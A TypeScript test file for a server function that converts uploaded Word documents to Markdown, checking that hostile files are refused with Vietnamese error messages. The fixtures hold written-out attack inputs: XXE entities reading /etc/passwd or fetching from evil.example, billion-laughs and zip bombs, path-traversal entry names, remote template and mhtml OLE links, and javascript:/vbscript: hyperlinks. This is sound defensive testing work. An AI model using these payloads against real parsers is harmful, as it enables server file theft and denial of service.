import { Document, Packer, Paragraph } from 'docx'
import { beforeAll, expect, test } from 'vitest'
import { ZipFile } from 'yazl'
import { unpackArchive } from '../storage/archive.server'
import { documentToMarkdown } from './word-document.server'

let clean: Map<string, Buffer>

beforeAll(async () => {
  const bytes = await Packer.toBuffer(new Document({ sections: [{ children: [new Paragraph('Chào đồng chí')] }] }))
  clean = await unpackArchive(bytes, { entries: 100, entryBytes: 1e7, totalBytes: 1e7, ratio: 1000 }, () => true)
})

async function zip(files: ReadonlyMap<string, Buffer>, options: { compress?: boolean } = {}): Promise<Buffer> {
  const archive = new ZipFile()
  for (const [path, content] of files) archive.addBuffer(content, path, options)
  archive.end()
  const chunks: Buffer[] = []
  for await (const chunk of archive.outputStream) chunks.push(chunk as Buffer)
  return Buffer.concat(chunks)
}

/** The clean document with some parts put in its way. */
const poisoned = (parts: Record<string, string | Buffer>) =>
  zip(new Map([...clean, ...Object.entries(parts).map(([path, text]): [string, Buffer] => [path, Buffer.from(text as string)])]))
const part = (path: string) => clean.get(path)?.toString('utf8') ?? ''
const relation = (type: string, target: string, mode = 'External') =>
  part('word/_rels/document.xml.rels').replace(
    '</Relationships>',
    `<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`,
  )
const RELS = 'word/_rels/document.xml.rels'
const bodyWith = (xml: string) => part('word/document.xml').replace('</w:body>', `${xml}</w:body>`)
const withDoctype = (doctype: string, text: string) =>
  part('word/document.xml')
    .replace(/^(<\?xml[^>]*\?>)?/, `$1${doctype}`)
    .replace('Chào đồng chí', text)

/** Changes bytes of the first local and central header of a path. */
function patched(bytes: Buffer, from: string, to: string): Buffer {
  return Buffer.from(bytes.toString('latin1').replaceAll(from, to), 'latin1')
}

test('the clean document is taken', async () => {
  const { markdown, findings } = await documentToMarkdown(await zip(clean), 'bai.docx')
  expect([markdown, findings]).toEqual(['Chào đồng chí\n', []])
})

const hostile: [string, () => Promise<Buffer> | Buffer, RegExp][] = [
  ['a macro', () => poisoned({ 'word/vbaProject.bin': 'Sub AutoOpen()' }), /macro hoặc mã nhị phân: word\/vbaProject.bin/],
  ['a macro under another name', () => poisoned({ 'word/theme/x.bin': 'Sub AutoOpen()' }), /macro/],
  [
    'a .docm',
    () =>
      poisoned({
        '[Content_Types].xml': part('[Content_Types].xml').replace(
          /application\/vnd\.openxmlformats-officedocument\.wordprocessingml\.document\.main\+xml/,
          'application/vnd.ms-word.document.macroEnabled.main+xml',
        ),
      }),
    /macro/,
  ],
  [
    'XXE: a file of the server',
    () => poisoned({ 'word/document.xml': withDoctype('<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>', '&x;') }),
    /DOCTYPE hoặc ENTITY: word\/document.xml/,
  ],
  ['XXE: an address', () => poisoned({ 'word/styles.xml': '<!DOCTYPE r SYSTEM "http://evil.example/x.dtd"><r/>' }), /DOCTYPE/],
  [
    'XXE in UTF-16',
    () =>
      poisoned({
        'word/document.xml': Buffer.from(
          `\ufeff<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>`,
          'utf16le',
        ),
      }),
    /DOCTYPE/,
  ],
  ['XXE in another code', () => poisoned({ 'word/document.xml': '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE r' }), /bảng mã lạ/],
  [
    'XXE in a relationship',
    () => poisoned({ '_rels/.rels': `<!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil.example/">%x;]>${part('_rels/.rels')}` }),
    /DOCTYPE/,
  ],
  [
    'a billion laughs',
    () =>
      poisoned({
        'word/document.xml': withDoctype(
          `<!DOCTYPE l [<!ENTITY a "ha">${[...'bcdefghij'].map((name, at) => `<!ENTITY ${name} "${`&${'abcdefghij'[at]};`.repeat(10)}">`).join('')}]>`,
          '&j;',
        ),
      }),
    /DOCTYPE/,
  ],
  ['an entity nobody declared', () => poisoned({ 'word/document.xml': withDoctype('', '&x;') }), /XML sai/],
  ['a picture fetched from elsewhere', () => poisoned({ [RELS]: relation('image', 'https://evil.example/pixel.png') }), /nạp nội dung từ nơi khác/],
  ['a picture of the server', () => poisoned({ [RELS]: relation('image', 'file:///etc/passwd', 'Internal') }), /nạp nội dung từ nơi khác/],
  [
    'a template fetched from elsewhere',
    () =>
      poisoned({
        'word/_rels/settings.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>`,
      }),
    /nạp nội dung từ nơi khác/,
  ],
  ['a linked OLE object', () => poisoned({ [RELS]: relation('oleObject', 'mhtml:https://evil.example/x.html!x-usc:x') }), /nạp nội dung từ nơi khác/],
  ['a share of a network', () => poisoned({ [RELS]: relation('image', '\\\\evil.example\\a\\b.png', 'Internal') }), /nạp nội dung từ nơi khác/],
  ['an embedded object', () => poisoned({ 'word/embeddings/oleObject1.docx': 'x' }), /nhúng tệp/],
  ['an ActiveX control', () => poisoned({ 'word/activeX/activeX1.xml': '<a/>' }), /ActiveX/],
  ['a chunk of HTML', () => poisoned({ 'word/afchunk.html': '<script>alert(1)</script>' }), /HTML nguyên khối/],
  [
    'nesting without end',
    () => poisoned({ 'word/document.xml': bodyWith(`${'<w:sdt><w:sdtContent>'.repeat(5000)}${'</w:sdtContent></w:sdt>'.repeat(5000)}`) }),
    /lồng nhau/,
  ],
  [
    'elements without end',
    () => poisoned({ 'word/document.xml': bodyWith(Array.from({ length: 650_000 }, (_, at) => `<w:p w:x="${at}"/>`).join('')) }),
    /quá nhiều phần tử/,
  ],
  ['a bomb', () => poisoned({ 'word/media/a.png': Buffer.alloc(60_000_000) }), /bung ra quá lớn: word\/media\/a.png/],
  [
    'a bomb of many parts',
    () => zip(new Map([...clean, ...Array.from({ length: 4 }, (_, at): [string, Buffer] => [`word/media/${at}.png`, Buffer.alloc(35_000_000)])])),
    /bung ra quá lớn/,
  ],
  [
    'too many parts',
    () => zip(new Map([...clean, ...Array.from({ length: 2100 }, (_, at): [string, Buffer] => [`word/x/${at}.xml`, Buffer.from('<a/>')])])),
    /quá nhiều phần/,
  ],
  [
    'a size that lies',
    async () => {
      const bytes = await zip(new Map([...clean, ['word/media/liar.png', Buffer.alloc(45_000_000)]]))
      const real = Buffer.alloc(4)
      real.writeUInt32LE(45_000_000)
      return patched(bytes, real.toString('latin1'), '\x10\0\0\0')
    },
    /quá lớn/,
  ],
  [
    'a path that climbs',
    async () => patched(await zip(new Map([...clean, ['aa/bb/evil.xml', Buffer.from('<a/>')]])), 'aa/bb/evil.xml', '../../evil.xml'),
    /đường dẫn lạ/,
  ],
  [
    'a path of Windows',
    async () => patched(await zip(new Map([...clean, ['aa/bb/evil.xml', Buffer.from('<a/>')]])), 'aa/bb/evil.xml', 'C:\\bb\\evil.xml'),
    /đường dẫn lạ/,
  ],
  [
    'a path from the root',
    async () => patched(await zip(new Map([...clean, ['aa/bb/evil.xml', Buffer.from('<a/>')]])), 'aa/bb/evil.xml', '/etc/x/evil.x/'.slice(0, 14)),
    /đường dẫn lạ/,
  ],
  [
    'one part twice',
    async () => patched(await zip(new Map([...clean, ['word/documenu.xml', Buffer.from('<a/>')]])), 'word/documenu.xml', 'word/document.xml'),
    /trùng tên/,
  ],
  [
    'a password of the archive',
    async () => {
      const bytes = await zip(clean)
      for (let at = bytes.indexOf('PK\x01\x02'); at >= 0; at = bytes.indexOf('PK\x01\x02', at + 1)) bytes[at + 8] |= 1
      return bytes
    },
    /mật khẩu/,
  ],
  ['a password of Word', () => Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(5000)]), /mật khẩu/],
  ['RTF with another name', () => Buffer.from('{\\rtf1 {\\object\\objautlink}}'), /RTF/],
  [
    'a spreadsheet with another name',
    () => poisoned({ '[Content_Types].xml': '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>' }),
    /không phải là tài liệu Word/,
  ],
  ['bytes of nothing', () => Buffer.from('PK\u0003\u0004 nothing'), /hỏng/],
  [
    'half a document',
    async () => {
      const bytes = await zip(clean)
      return bytes.subarray(0, bytes.length / 2)
    },
    /hỏng/,
  ],
]

test.each(hostile)('%s is refused, with a sentence and without a text', async (_name, make, found) => {
  const result = await documentToMarkdown(await make(), 'bai.docx')
  expect([result.markdown, result.images]).toEqual(['', []])
  expect(result.findings).toEqual([{ file: 'bai.docx', line: 1, column: 1, found: expect.stringMatching(found), advice: expect.stringMatching(/.{10}/) }])
})

const link = (target: string) => ({
  [RELS]: relation('hyperlink', target.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/"/g, '&quot;')),
  'word/document.xml': bodyWith(
    '<w:p><w:hyperlink r:id="rIdX" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:r><w:t>bấm</w:t></w:r></w:hyperlink></w:p>',
  ).replace(/<w:sectPr.*<\/w:sectPr>/s, ''),
})

test.each([
  ['javascript:alert(1)', 'bấm'],
  ['data:text/html,<script>alert(1)</script>', 'bấm'],
  ['file:///etc/passwd', 'bấm'],
  ['vbscript:x', 'bấm'],
  ['https://ten:matkhau@evil.example/', 'bấm'],
  ['https://hanoi.gov.vn/a(b)', '[bấm](https://hanoi.gov.vn/a\\(b\\))'],
  ['mailto:hotro@hanoi.gov.vn', '[bấm](mailto:hotro@hanoi.gov.vn)'],
])('a link to %s becomes %s', async (target, written) => {
  const { markdown } = await documentToMarkdown(await poisoned(link(target)), 'bai.docx')
  expect(markdown.split('\n\n')[1]?.trim()).toBe(written)
})
